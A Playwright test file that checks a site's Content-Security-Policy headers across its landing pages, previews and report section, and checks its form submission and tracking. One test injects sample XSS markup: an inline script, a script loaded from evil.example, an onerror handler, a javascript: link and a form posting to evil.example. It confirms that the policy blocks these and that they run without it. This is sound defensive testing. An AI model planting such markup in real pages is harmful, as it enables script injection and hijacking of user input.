import { expect, type Page } from '@playwright/test';
import { catalog } from '#generated/catalog.ts';
import { test } from '#test/support/browser-test.ts';
import { fillForm } from './fill-form.ts';
import { watchPolicy } from './policy-watch.ts';
import { printedLinks } from './preview-links.ts';

test.describe.configure({ timeout: 120_000 });

const [form] = catalog.forms;
const unknown = ['/nothing/', '/ended/', '/_v/x/', '/report/'];
const plain = ['/privacy/', '/de/datenschutz/', '/privacy-choices/', '/_tl/confirm?lead=x'];

/** Every landing, and one preview of each. */
function addresses(origin: string): readonly string[] {
  const links = printedLinks(origin);
  const previews = catalog.landings.flatMap(
    ({ path }) => links.find(({ landing, name }) => landing === path && name !== 'control') ?? [],
  );
  return [
    ...catalog.landings.map(({ path }) => path),
    ...previews.map(({ link }) => link.replace(/^https?:\/\/[^/]+/, '')),
    ...plain,
    ...unknown,
  ];
}

test('no page of any kind breaks its policy, and the tracker runs under it', async ({
  page,
  site,
}) => {
  const refused = await watchPolicy(page);
  let recorded = 0;
  page.on('response', (response) => {
    if (response.url().endsWith('/_tl/events') && response.status() === 202) recorded += 1;
  });
  const seen = addresses(site.origin);
  for (const address of seen) {
    const answer = await page.goto(site.origin + address);
    expect(answer?.headers()['content-security-policy'], address).toBeTruthy();
    // Sections below the fold draw and run when they come into sight.
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
  }
  await page.goto(`${site.origin}${form?.landing}`);
  const filled = page.locator(`form[action="/_tl/forms/${form?.id}"]`).first();
  await filled.evaluate((element: HTMLFormElement) => {
    element.noValidate = true;
    element.submit();
  });
  await expect(page.locator('[aria-invalid="true"]').first()).toBeVisible();
  await fillForm(filled);
  await filled.evaluate((element: HTMLFormElement) => element.requestSubmit());
  await page.waitForURL(`**${form?.thanks}**`);
  expect(recorded).toBeGreaterThanOrEqual(catalog.landings.length);
  expect(refused).toEqual({ violations: [], complaints: [] });
});

test('no page of the report breaks its policy, nor does the file that is kept of one', async ({
  page,
  site,
}) => {
  const refused = await watchPolicy(page);
  await page.goto(`${site.origin}/report/?key=${site.reportKey}`);
  const month = new Date().toISOString().slice(0, 7);
  const paths = [
    ...catalog.experiments.map(({ id }) => `/report/${id}/`),
    ...catalog.experiments.map(({ id }) => `/report/${id}/?file`),
    ...[
      '/report/',
      '/report/leads/',
      '/report/leads/?list=undelivered',
      '/report/leads/?list=spam',
    ],
    ...['/report/revenue/', '/report/uploads/', '/report/programme/'],
    ...[`/report/programme/${month}/`, '/report/programme/nothing/', '/report/nobody/'],
  ];
  for (const path of paths) {
    const answer = await page.goto(site.origin + path);
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).not.toContain('unsafe');
    await expect(page.locator('h1').first(), path).toBeVisible();
    const isDrawn = await page.evaluate(() => getComputedStyle(document.body).margin === '0px');
    expect([path, isDrawn]).toEqual([path, true]);
  }
  expect(refused).toEqual({ violations: [], complaints: [] });
});

/** What somebody would plant who could write markup into a page; each says when it ran. */
const PLANTED = `
<script>window.ran = ['inline script']</script>
<script src="https://evil.example/x.js"></script>
<img src="data:," alt="" onerror="(window.ran ??= []).push('inline handler')">
<a id="planted-link" href="javascript:void (window.ran ??= []).push('javascript link')">x</a>
<form id="planted-form" action="https://evil.example/take"><button>x</button></form>`;

const EVERYTHING = ['inline script', 'foreign script', 'inline handler', 'javascript link'];

/** Opens a page with the planted markup, with the policy that it came with or without any. */
async function plant(page: Page, address: string, keepsPolicy: boolean): Promise<void> {
  await page.route('https://evil.example/**', (route) => {
    const isScript = route.request().url().endsWith('x.js');
    const body = isScript ? "(window.ran ??= []).push('foreign script')" : '<h1>Taken</h1>';
    const contentType = isScript ? 'text/javascript' : 'text/html';
    return route.fulfill({ body, contentType });
  });
  const { pathname } = new URL(address);
  await page.route(
    (url) => url.pathname === pathname,
    async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      if (!keepsPolicy) delete headers['content-security-policy'];
      const body = (await response.text()).replace('</body>', `${PLANTED}</body>`);
      await route.fulfill({ status: response.status(), headers, body });
    },
  );
  await page.goto(address);
}

/** What ran of it, where the form led, and whether a text became markup. */
async function whatRan(page: Page): Promise<unknown> {
  await page.evaluate(() => document.querySelector<HTMLElement>('#planted-link')?.click());
  const becameMarkup = await page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<b>x</b>';
      return true;
    } catch {
      return false;
    }
  });
  const ran = () => page.evaluate(() => (window as unknown as { ran?: string[] }).ran ?? []);
  // A link that runs a script does so in a task of its own.
  await page.evaluate(() => new Promise((done) => setTimeout(done)));
  const told = [...(await ran())].sort();
  await page.evaluate(() => document.querySelector<HTMLElement>('#planted-form button')?.click());
  const taken = await page
    .getByRole('heading', { name: 'Taken' })
    .waitFor({ timeout: 1_500 })
    .then(() => true)
    .catch(() => false);
  return { ran: told, becameMarkup, taken };
}

for (const path of [catalog.landings[0]?.path ?? '/', `/report/${catalog.experiments[0]?.id}/`]) {
  test(`what somebody plants on ${path} does nothing, and would without the policy`, async ({
    context,
    page,
    site,
  }) => {
    await page.goto(`${site.origin}/report/?key=${site.reportKey}`);
    const blocked = await context.newPage();
    await plant(blocked, site.origin + path, true);
    expect(await whatRan(blocked)).toEqual({ ran: [], becameMarkup: false, taken: false });
    const open = await context.newPage();
    await plant(open, site.origin + path, false);
    const all = [...EVERYTHING].sort();
    expect(await whatRan(open)).toEqual({ ran: all, becameMarkup: true, taken: true });
  });
}

test('files that meet no Worker carry the safe headers, too', async ({ page, site }) => {
  await page.goto(`${site.origin}/report/?key=${site.reportKey}`);
  const sheet = await page.locator('link[rel="stylesheet"]').first().getAttribute('href');
  for (const path of [sheet ?? '', '/favicon.svg', '/favicon.ico', '/robots.txt', '/sitemap.xml']) {
    const answer = await page.request.get(site.origin + path);
    const headers = answer.headers();
    expect([path, answer.status()]).toEqual([path, 200]);
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['content-security-policy'], path).toContain("frame-ancestors 'none'");
    expect(headers['referrer-policy'], path).toBeTruthy();
  }
});
